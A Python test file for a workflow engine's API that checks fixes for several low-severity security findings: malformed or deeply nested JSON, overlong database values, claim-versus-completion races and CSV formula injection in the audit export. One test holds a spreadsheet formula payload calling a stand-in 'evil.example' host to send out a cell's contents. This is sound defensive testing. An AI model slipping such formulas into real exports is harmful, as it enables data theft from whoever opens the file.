"""Low findings of issue 11, each reproduced through the API: malformed JSON and database overflows are 4xx not
500, NaN never comes back, a claim that loses to a completion is 409, and the audit CSV cannot carry formulas."""

from __future__ import annotations

import csv
import io

from engine.db.database import unit_of_work
from engine.services import audit, audit_bundle, instances
from tests.api.conftest import Api
from tests.api.test_api import RECORD
from tests.bpmn_snippets import chain
from tests.conftest import IVAN
from tests.support import deploy_xml


def _raw(api: Api, path: str, body: str, user: str = "ivan"):  # type: ignore[no-untyped-def]
    return api.post(path, user, data=body.encode("utf-8", "surrogatepass"), content_type="application/json")


def test_malformed_json_is_a_clear_400(api: Api) -> None:
    cases = {
        "surrogate": '{"process": "response", "data": {"summary": "\\ud800"}}',
        "nesting": '{"process": "response", "data": ' + "[" * 50_000 + "]" * 50_000 + "}",
        "NaN": '{"process": "response", "data": {"summary": NaN}}',
        "Infinity": '{"process": "response", "data": {"n": -Infinity}}',
    }
    reasons = {"surrogate": "lone surrogate", "nesting": "nested more than", "NaN": "NaN", "Infinity": "Infinity"}
    for name, body in cases.items():
        resp = _raw(api, "/instances", body)
        assert resp.status_code == 400, (name, resp.status_code)
        assert reasons[name] in resp.json["error"]["message"], resp.json


def test_a_value_too_long_for_the_database_is_a_4xx(api: Api) -> None:
    resp = api.post("/messages", "admin", json={"name": "m" * 300, "correlation": {"business_key": "INC-1"}})
    assert 400 <= resp.status_code < 500, resp.json  # PostgreSQL refuses the 200-character column: 400


def test_a_claim_that_loses_to_a_completion_is_409(api: Api) -> None:
    task = api.post("/instances", "ivan", json={"process": "response", "data": {}}).json["tasks"][0]
    assert api.post(f"/tasks/{task['id']}/complete", "alice", json={"data": RECORD}).status_code == 200
    late = api.post(f"/tasks/{task['id']}/claim", "alice")
    assert late.status_code == 409 and late.json["error"]["code"] == "conflict"


def test_audit_csv_neutralises_formulas_and_still_verifies(api: Api) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1, "click")'
    deploy_xml(api.db, chain("csvinj", ['<bpmn:userTask id="n0" name="' + name.replace('"', "&quot;").replace(
        "&A1", "&amp;A1") + '" camunda:candidateGroups="service_desk"/>']))
    instances.start(api.db, IVAN, "csvinj", {"note": "+1 555"})
    text = api.get("/audit/export?format=csv", "heidi").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [c for row in rows for c in row.values() if c]
    assert not [c for c in cells if c.startswith(audit_bundle.FORMULA_START[:-1])]  # nothing starts a formula
    named = [r for r in rows if r["element_name"] and "HYPERLINK" in r["element_name"]]
    assert named and named[0]["element_name"] == "'" + name
    restored = [{k: audit_bundle.csv_value(v) for k, v in row.items()} for row in rows]
    for row in restored:
        row["seq"] = int(row["seq"])  # type: ignore[assignment]
        for key in ("instance_id", "chain", "n"):
            row[key] = int(row[key]) if row[key] else None  # type: ignore[assignment]
        for key in ("element_id", "element_name"):
            row[key] = row[key] or None  # type: ignore[assignment]
    starts = {}
    for row in restored:
        k, n = int(row["chain"]), int(row["n"])  # type: ignore[arg-type]
        if k not in starts or n < starts[k][0]:
            starts[k] = (n, str(row["prev_hash"]))
    assert audit.verify_rows(restored, chains=starts).ok  # type: ignore[arg-type]
    with unit_of_work(api.db) as uow:
        assert audit.verify(uow, None, strict=False).ok
